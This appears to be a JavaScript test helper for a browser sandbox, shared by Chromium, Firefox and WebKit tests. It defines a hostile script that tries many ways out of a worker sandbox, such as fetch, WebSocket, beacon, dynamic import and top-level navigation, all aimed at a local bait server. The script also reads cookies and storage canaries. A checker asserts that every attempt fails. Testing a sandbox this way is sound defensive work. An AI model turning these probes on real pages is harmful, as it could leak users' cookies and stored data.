// A problem script that tries every way out of the sandbox, the check of what it found, and
// the bait server it is told to reach: shared by the sandbox tests (Chromium) and the smoke
// tests in Firefox and WebKit (tests/browsers).
import http from 'node:http';
import assert from 'node:assert/strict';

// A problem script that tries every way out it can think of, at top level and from inside
// F, and reports the findings as the message of an error F throws once all have settled.
export const hostileScript = (baitUrl) => `
const BAIT = ${JSON.stringify(baitUrl)};
const report = {};
function settle(p, ms) {
  return Promise.race([Promise.resolve().then(p), new Promise((_, rej) => setTimeout(() => rej(new Error('timeout')), ms))]);
}
async function attempt(where, name, fn) {
  try { const v = await settle(fn, 1500); report[where + ':' + name] = 'ALLOWED ' + String(v).slice(0, 80); }
  catch (e) { report[where + ':' + name] = 'no'; }
}
function probeStorage() {
  const found = [];
  try { found.push(String(localStorage.getItem('bbp-canary'))); } catch (e) {}
  try { found.push(String(document.cookie)); } catch (e) {}
  try { found.push(String(parent.localStorage.getItem('bbp-canary'))); } catch (e) {}
  try { found.push(String(top.document.cookie)); } catch (e) {}
  return found.join('|');
}
function attackAll(where) {
  const u = BAIT + '/' + where;
  return Promise.all([
    attempt(where, 'fetch', () => fetch(u + '/fetch', { mode: 'no-cors' }).then((r) => r.type)),
    attempt(where, 'xhr', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', u + '/xhr'); x.onload = () => res(x.status); x.onerror = () => rej(new Error('xhr')); x.send(); })),
    attempt(where, 'syncXhr', () => { const x = new XMLHttpRequest(); x.open('GET', u + '/sync-xhr', false); x.send(); return x.status; }),
    attempt(where, 'webSocket', () => new Promise((res, rej) => { const w = new WebSocket(u.replace('http', 'ws') + '/ws'); w.onopen = () => res('open'); w.onerror = () => rej(new Error('ws')); })),
    attempt(where, 'eventSource', () => new Promise((res, rej) => { const s = new EventSource(u + '/sse'); s.onopen = () => res('open'); s.onerror = () => { s.close(); rej(new Error('sse')); }; })),
    attempt(where, 'importScripts', () => { importScripts(u + '/import-scripts.js'); return self.__baitLoaded; }),
    attempt(where, 'import', () => import(u + '/import.js')),
    attempt(where, 'worker', () => new Promise((res, rej) => { const w = new Worker(u + '/worker.js'); w.onerror = () => rej(new Error('worker')); setTimeout(() => res('alive?'), 500); })),
    attempt(where, 'indexedDB', () => new Promise((res, rej) => { const r = indexedDB.open('bbp'); r.onsuccess = () => res('opened'); r.onerror = () => rej(new Error('idb')); })),
    attempt(where, 'caches', () => caches.open('bbp').then(() => 'opened')),
    attempt(where, 'localStorage', () => localStorage.getItem('bbp-canary')),
    attempt(where, 'cookie', () => document.cookie),
    attempt(where, 'parent', () => parent.document.title),
    attempt(where, 'top', () => top.location.href),
    attempt(where, 'open', () => open(u + '/popup')),
    attempt(where, 'navigateTop', () => { top.location = u + '/navigate-top'; return 'assigned'; }),
    attempt(where, 'beacon', () => navigator.sendBeacon(u + '/beacon', 'x')),
  ]).then(() => { report[where + ':storage'] = probeStorage(); report[where + ':origin'] = self.origin; });
}
const topDone = attackAll('top');
let inF = null;
let ready = false;
function F(x, theta) {
  if (!inF) inF = attackAll('f').then(() => topDone).then(() => { ready = true; });
  if (ready) throw new Error('REPORT' + JSON.stringify(report));
  // Slow enough that the run is still going when every attempt has settled.
  const t = performance.now();
  while (performance.now() - t < 0.02);
  return theta[0] * x[0] + theta[1];
}
function thetaTrue(x) { return [x[0], 0.5]; }
const problem = { xDim: 1, thetaDim: 2 };
`;

// What a hostile run found; fails on any way out that worked.
export function checkReport(message, canary) {
  const m = /REPORT(\{.*\})$/.exec(message);
  assert.ok(m, `unexpected end of the hostile run: ${message}`);
  const report = JSON.parse(m[1]);
  const allowed = Object.entries(report).filter(([k, v]) => !k.endsWith(':storage') && !k.endsWith(':origin') && v !== 'no');
  assert.deepEqual(allowed, [], 'every attack must fail');
  for (const where of ['top', 'f']) {
    assert.equal(report[`${where}:origin`], 'null', 'the worker has an opaque origin');
    assert.ok(!report[`${where}:storage`].includes(canary), 'the page\'s storage is out of reach');
  }
}

// A server the sandboxed code is told to reach. It must never see a request.
export function startBait() {
  const hits = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    res.end('self.__baitLoaded = true;');
  });
  server.on('upgrade', (req, socket) => { hits.push(`UPGRADE ${req.url}`); socket.destroy(); });
  server.on('connection', (socket) => { hits.push('TCP connection'); socket.on('error', () => {}); });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({
    url: `http://127.0.0.1:${/** @type {import('node:net').AddressInfo} */ (server.address()).port}`, hits,
    close: () => new Promise((r) => { server.closeAllConnections?.(); server.close(r); }),
  })));
}

